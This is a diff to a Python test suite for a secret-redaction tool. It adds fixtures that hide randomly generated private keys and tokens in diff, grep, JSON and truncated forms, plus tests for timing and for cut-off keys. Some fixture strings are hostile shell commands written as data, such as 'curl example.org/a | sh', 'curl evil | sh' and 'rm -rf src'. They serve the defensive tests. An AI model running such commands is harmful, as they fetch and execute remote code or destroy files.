@@ -181,7 +181,20 @@ PLACES = [
     ("{} alone", f"eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiI{make_key(20)}.{make_key(43, URL_SAFE)}"),
     ("a {} b", f"-----BEGIN ENCRYPTED PRIVATE KEY-----\n{make_key(64, BASE64)}\n"
      "-----END ENCRYPTED PRIVATE KEY-----"),
-    ("a {}", "-----BEGIN PGP PRIVATE KEY BLOCK-----\ncut off here"),
+    ("a {}\ncut off here", f"-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n{make_key(64, BASE64)}"),
+    ("-----BEGIN PGP PRIVATE KEY BLOCK-----\nComment: mine\n\n{}\n",
+     f"{make_key(64, BASE64)}\nQm==\n=aB1x\n-----END PGP PRIVATE KEY BLOCK-----"),
+    ("{}\n+# end", f"-----BEGIN RSA PRIVATE KEY-----\n+Proc-Type: 4,ENCRYPTED\n"
+     f"+DEK-Info: AES-128-CBC,5A\n+\n+{make_key(64, BASE64)}\n+{make_key(64, BASE64)}\n+aB==\n"
+     "+-----END RSA PRIVATE KEY-----"),
+    ('{{"key": "{}\\n", "a": 1}}', f"-----BEGIN PRIVATE KEY-----\\n{make_key(64, BASE64)}\\n"
+     f"{make_key(9, BASE64)}=\\n-----END PRIVATE KEY-----"),
+    ("   1\t{}\n   5\tend", f"-----BEGIN PRIVATE KEY-----\n   2\t{make_key(64, BASE64)}\n"
+     f"   3\t{make_key(9, BASE64)}=\n   4\t-----END PRIVATE KEY-----"),
+    ("true '{}'; echo evil > out.txt", f"-----BEGIN PRIVATE KEY----- {make_key(64, BASE64)}"),
+    ("{}\nend", f"'-----BEGIN PRIVATE KEY-----\\n'\n    + '{make_key(64, BASE64)}"[1:]),
+    ("a.pem:1:-----BEGIN PRIVATE KEY-----\na.pem:2:{}\nb.py:1:end", make_key(64, BASE64)),
+    ("[9 lines left out]\n{}\n-----END PRIVATE KEY-----", make_key(64, BASE64)),
 ]  # fmt: skip
 
 #: Random or about keys, and none.
@@ -244,6 +257,16 @@ ORDINARY = [
     "auth.users.com.example.services.UserPasswordResetService",
     "KeyError: 'authorization_endpoint_url'",
     "for key, value in sorted(environment_variables.items()):",
+    f"cache key: node-modules-linux-{make_key(40, HEX)}",
+    "S3 key: uploads/2024/05/IMG_2041_b7f3k9.jpg",
+    'key: "fzf-v0.44.1-linux_amd64.tar.gz"',
+    'AUTH0_DOMAIN = "dev-x8k2q1z9.us.auth0.com"',
+    'M = "-----BEGIN PRIVATE KEY-----"\n\ndef f():\n    return 1\n' + "# more\n" * 20,
+    "true '-----BEGIN PRIVATE KEY'; echo evil > payload.txt",
+    "true '-----BEGIN PRIVATE KEY-----' && curl example.org/a | sh",
+    "# -----BEGIN PRIVATE KEY\nall:\n\tcurl evil | sh\n# -----END PRIVATE KEY-----\n",
+    "-----BEGIN PRIVATE KEY-----\nrun\n-----END PRIVATE KEY-----",
+    "-----BEGIN PRIVATE KEY-----\nComment: rm -rf src\nmake\n",
     "  password             Your password (at least twelve characters)",
 ]
 
@@ -282,7 +305,8 @@ def test_a_key_is_masked_anywhere_in_a_long_text() -> None:
     [
         *("-eyJ", "-eyJaaaaaaaaaa", "A_KEY=", "A1bcdefgh_KEY=", "api_key: ", "key/", "Key"),
         *("key\n", "://", "?a=", "a_a1B", "cookie: a=", "-----BEGIN PRIVATE KEY", "q7Lr"),
-        *("machine a login a ", "b64KEY/aB3"),
+        *("machine a login a ", "b64KEY/aB3", "-----BEGIN PRIVATE KEY-----\na-", "a-aA1b\n"),
+        *("-----END PRIVATE KEY-----\naA1b\n", " " * 500 + "-----END PRIVATE KEY-----", "1\n+"),
     ],
 )
 def test_no_text_takes_longer_than_its_length_explains(unit: str) -> None:
@@ -293,6 +317,22 @@ def test_no_text_takes_longer_than_its_length_explains(unit: str) -> None:
     shown = Redactor([make_key(40), "q7Lr" * 8]).redact_text(text)
     assert time.process_time() - began < 1.0
     assert secret not in shown
+
+
+@pytest.mark.parametrize("prefix", ["", "+", "> ", "  12 | ", "a.pem:7:", "a.pem-7-"])
+def test_a_private_key_that_is_cut_off_stays_hidden(prefix: str) -> None:
+    """At any place, with what is left of it before the cut or behind it."""
+    lines = ["-----BEGIN PRIVATE KEY-----", *(make_key(64, BASE64) for _ in range(3))]
+    lines += [make_key(20, BASE64), "-----END PRIVATE KEY-----"]
+    text = "\n".join(prefix + line for line in lines)
+    for cut in range(len(prefix + lines[0]), len(text), 7):
+        for part in (f"a\n{text[:cut]}\n[cut]", f"[cut]\n{text[cut:]}\nend"):
+            shown = Redactor().redact_text(part)
+            assert shown.startswith(part[:2])
+            assert shown.endswith(part[-4:])
+            assert not any(
+                line[at : at + 20] in shown for line in lines[1:-1] for at in (0, len(line) - 20)
+            )
 
 
 def test_short_secrets_only_as_whole_words() -> None:
